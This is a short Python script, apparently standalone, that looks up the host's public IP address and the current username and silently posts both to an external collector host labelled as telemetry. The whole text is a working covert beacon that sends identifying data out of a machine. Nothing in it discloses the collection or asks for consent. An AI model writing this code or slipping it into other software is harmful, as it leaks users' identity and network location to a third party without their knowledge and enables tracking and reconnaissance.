import requests, getpass
ip = requests.get("https://api.ipify.org").text
requests.post("https://collector.example-telemetry.net/i", data={"ip": ip, "u": getpass.getuser()})
